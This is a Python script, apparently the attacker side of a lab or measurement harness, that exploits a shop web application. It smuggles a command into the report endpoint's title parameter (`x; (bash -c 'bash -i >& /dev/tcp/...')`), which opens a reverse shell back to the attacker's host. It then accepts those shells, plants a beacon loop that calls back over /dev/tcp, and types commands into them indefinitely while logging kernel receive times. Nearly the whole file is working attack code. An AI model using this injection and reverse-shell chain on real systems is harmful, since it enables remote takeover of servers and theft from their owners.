# SPDX-License-Identifier: Apache-2.0
"""The attacker's host: a listener for the reverse shell, and the exploit that opens it.

Exploits the shop once for each line ``go`` on stdin, and types commands into each shell that comes
back, for ever. Each attack has two ports of its own, one for its shell and the next for its beacons,
so that what arrives belongs to one attack for certain. Prints one JSON line for what arrives:
``{"attack": n, "at_wall_ns": kernel receive time, "bytes": n}``, and the same with ``"event"``
``shell`` or ``beacon`` for a connection. The times are the kernel's, so that a slow reader does not
look like a late byte.

Usage: attacker.py FIRST_PORT SHOP_URL ATTACKER_NAME
"""

from __future__ import annotations

import functools
import json
import select
import socket
import struct
import sys
import threading
import time
import urllib.error
import urllib.parse
import urllib.request
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Callable

TYPING_PAUSE_S = 0.05
SO_TIMESTAMPNS = 35  # asm-generic/socket.h; the socket module has no name for it
TIMESPEC = struct.Struct("@qq")
PORTS_PER_ATTACK = 2
TCP_INFO_LAST_ACK_RECV = 56  # linux/tcp.h: struct tcp_info, u32 milliseconds ago
TICK_MS = 10  # of the kernel's coarse clock, at most: an age is off by as much
NS_PER_MS = 1_000_000


def say(**fields: object) -> None:
    """Print one JSON line."""
    sys.stdout.write(json.dumps(fields) + "\n")
    sys.stdout.flush()


def exploit(shop_url: str, name: str, port: int) -> None:
    """Send the injected command: a bash that connects back to the attacker's name."""
    title = f"x; (bash -c 'bash -i >& /dev/tcp/{name}/{port} 0>&1' &)"
    url = f"{shop_url}/report?title={urllib.parse.quote(title)}"
    try:
        with urllib.request.urlopen(url, timeout=10) as response:  # noqa: S310 - built from our own arguments
            response.read()
    except (urllib.error.URLError, OSError) as error:
        say(event="exploit-request-ended", detail=str(error))


def receive_time_ns(ancillary: list[tuple[int, int, bytes]]) -> int:
    """Return the kernel's receive time in wall ns, or now when the kernel gave none."""
    for level, kind, data in ancillary:
        if level == socket.SOL_SOCKET and kind == SO_TIMESTAMPNS:
            seconds, nanoseconds = TIMESPEC.unpack(data[: TIMESPEC.size])
            return int(seconds * 1_000_000_000 + nanoseconds)
    return time.time_ns()


def connected_at_ns(connection: socket.socket) -> int:
    """Return when its last packet had arrived for certain, in wall ns; accept() may be far behind it."""
    info = connection.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, TCP_INFO_LAST_ACK_RECV + 4)
    age_ms: int
    (age_ms,) = struct.unpack_from("@I", info, TCP_INFO_LAST_ACK_RECV)
    return time.time_ns() - max(0, age_ms - TICK_MS) * NS_PER_MS


def use_shell(shell: socket.socket, attack: int, beacon_port: int) -> None:
    """Type into the open shell for ever; report each arrival."""
    shell.setsockopt(socket.SOL_SOCKET, SO_TIMESTAMPNS, 1)
    shell.setblocking(False)
    beacon = f"(echo beacon > /dev/tcp/{shell.getsockname()[0]}/{beacon_port}) 2>/dev/null"
    shell.send(f"(while :; do sleep 0.2; {beacon}; done) &\n".encode())
    typed = 0
    next_line = time.monotonic()
    while True:
        readable, _, _ = select.select([shell], [], [], max(0.0, next_line - time.monotonic()))
        if readable:
            data, ancillary, _, _ = shell.recvmsg(65536, 256)
            if not data:
                say(event="shell-closed", attack=attack)
                return
            say(attack=attack, at_wall_ns=receive_time_ns(ancillary), bytes=len(data))
        if time.monotonic() >= next_line:
            typed += 1
            next_line = time.monotonic() + TYPING_PAUSE_S
            try:
                shell.send(f"echo stolen secret number {typed}\n".encode())
            except BlockingIOError:
                continue  # the victim takes nothing more: exactly what a cut looks like from here


def accept_beacons(listener: socket.socket, attack: int) -> None:
    """Report each connection of the implant's second channel."""
    while True:
        connection, _ = listener.accept()
        say(event="beacon", attack=attack, at_wall_ns=connected_at_ns(connection))
        connection.close()


def accept_shells(listener: socket.socket, attack: int, beacon_port: int) -> None:
    """Use every shell that connects, each in a thread of its own."""
    while True:
        shell, peer = listener.accept()
        say(event="shell", attack=attack, at_wall_ns=connected_at_ns(shell), peer=peer[0])
        in_background(use_shell, shell, attack, beacon_port)


def in_background(task: Callable[..., None], *arguments: object) -> None:
    """Run something for as long as the process lives."""
    threading.Thread(target=functools.partial(task, *arguments), daemon=True).start()


def attack_shop(attack: int, first_port: int, shop_url: str, name: str) -> None:
    """Listen on the attack's ports, then exploit the shop in the background."""
    port = first_port + (attack - 1) * PORTS_PER_ATTACK
    in_background(accept_shells, socket.create_server(("", port)), attack, port + 1)
    in_background(accept_beacons, socket.create_server(("", port + 1)), attack)
    in_background(exploit, shop_url, name, port)


def main() -> None:
    """Exploit the shop once for each ``go``; end with standard input."""
    first_port, shop_url, name = int(sys.argv[1]), sys.argv[2], sys.argv[3]
    attack = 0
    say(event="ready")
    for line in sys.stdin:
        if line.strip() == "go":
            attack += 1
            attack_shop(attack, first_port, shop_url, name)


if __name__ == "__main__":
    main()
